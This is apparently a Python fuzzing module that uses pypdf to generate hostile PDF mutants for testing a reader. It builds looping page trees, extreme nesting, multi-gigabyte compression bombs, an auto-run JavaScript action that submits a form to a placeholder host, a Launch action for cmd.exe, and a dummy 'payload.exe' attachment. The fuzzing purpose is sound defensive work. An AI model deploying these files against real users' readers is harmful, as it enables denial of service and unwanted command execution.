"""Structural damage for the fuzz run (`fuzz.py`), written with pypdf: page trees that loop or lie
about their size, nesting deep enough to exhaust a recursive reader, compression bombs, scripts,
launch actions and attachments."""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable
from io import BytesIO

from fuzz_bytes import Mutation, flip_bytes
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)


def _writer(data: bytes) -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(BytesIO(data)))


def pdf_bytes(writer: PdfWriter) -> bytes:
    buf = BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _add_content(writer: PdfWriter, page_index: int, stream: StreamObject) -> None:
    page = writer.pages[page_index]
    ref = writer._add_object(stream)
    contents = page.get("/Contents")
    if contents is None:
        page[NameObject("/Contents")] = ref
        return
    items = list(contents) if isinstance(contents.get_object(), ArrayObject) else [contents]
    items.insert(0, ref)  # first, so the damage is read before the page's own text
    page[NameObject("/Contents")] = ArrayObject(items)


def with_pypdf(change: Callable[[PdfWriter, random.Random], None]) -> Mutation:
    def mutate(data: bytes, rng: random.Random) -> bytes:
        try:
            writer = _writer(data)
        except Exception:  # a source pypdf cannot rewrite still yields a (byte-level) mutant
            return flip_bytes(data, rng)
        change(writer, rng)
        return pdf_bytes(writer)

    mutate.__name__ = change.__name__
    mutate.__doc__ = change.__doc__
    return mutate


def huge_count(writer: PdfWriter, rng: random.Random) -> None:
    pages = writer._root_object["/Pages"].get_object()
    pages[NameObject("/Count")] = NumberObject(rng.choice([2**31 - 1, 10**9, -1, 10**6]))


def page_tree_loop(writer: PdfWriter, rng: random.Random) -> None:
    root_ref = writer._root_object.raw_get("/Pages")
    pages = root_ref.get_object()
    kids = pages["/Kids"]
    if rng.random() < 0.5:
        kids.insert(rng.randrange(len(kids) + 1), root_ref)  # the tree contains itself
    else:  # a page node whose only kid is its parent
        node = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Pages"),
                NameObject("/Kids"): ArrayObject([root_ref]),
                NameObject("/Count"): NumberObject(1),
                NameObject("/Parent"): root_ref,
            }
        )
        kids.append(writer._add_object(node))
    pages[NameObject("/Count")] = NumberObject(int(pages["/Count"]) + 1)


DEPTH = 100_000
NESTED = b"[" * DEPTH + b"1" + b"]" * DEPTH
_PLACEHOLDER = "D" * (len(NESTED) - 2)  # written as (DDD...), as long as NESTED: offsets stay true


def deep_array(writer: PdfWriter, rng: random.Random) -> None:
    nested = NESTED
    page_index = rng.randrange(len(writer.pages))
    if rng.random() < 0.5:  # as an operand in the page's content
        stream = DecodedStreamObject()
        stream.set_data(nested + b" TJ\n")
        _add_content(writer, page_index, stream)
    else:  # in the page's dictionary: a placeholder of the same length, swapped in after writing
        writer.pages[page_index][NameObject("/Deep")] = TextStringObject(_PLACEHOLDER)


def compression_bomb(writer: PdfWriter, rng: random.Random) -> None:
    """A Flate content stream that expands to gigabytes (of blanks, digits or no-op operators)."""
    unit = rng.choice([b" ", b"0", b"q Q "]) * (1 << 20)
    gigabytes = rng.choice([1, 2, 4])
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(unit) for _ in range(gigabytes * 1024)) + packer.flush()
    stream = StreamObject()
    stream._data = packed
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    _add_content(writer, rng.randrange(len(writer.pages)), stream)


def javascript_action(writer: PdfWriter, rng: random.Random) -> None:
    script = "app.alert('hello'); this.submitForm('http://example.invalid/');"
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    )
    ref = writer._add_object(action)
    writer._root_object[NameObject("/OpenAction")] = ref
    page = writer.pages[rng.randrange(len(writer.pages))]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): ref})  # on opening the page too


def launch_action(writer: PdfWriter, rng: random.Random) -> None:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
            NameObject("/Win"): DictionaryObject({NameObject("/F"): TextStringObject("cmd.exe")}),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def embedded_file(writer: PdfWriter, rng: random.Random) -> None:
    writer.add_attachment("payload.exe", bytes(rng.randrange(256) for _ in range(rng.randint(100, 50000))))


def deep_patch(mutate: Mutation) -> Mutation:
    """deep_array's object form: splice the nesting in after pypdf has written the file
    (pypdf would recurse writing it)."""

    def run(data: bytes, rng: random.Random) -> bytes:
        return mutate(data, rng).replace(b"(" + _PLACEHOLDER.encode() + b")", NESTED)

    run.__name__ = mutate.__name__
    return run
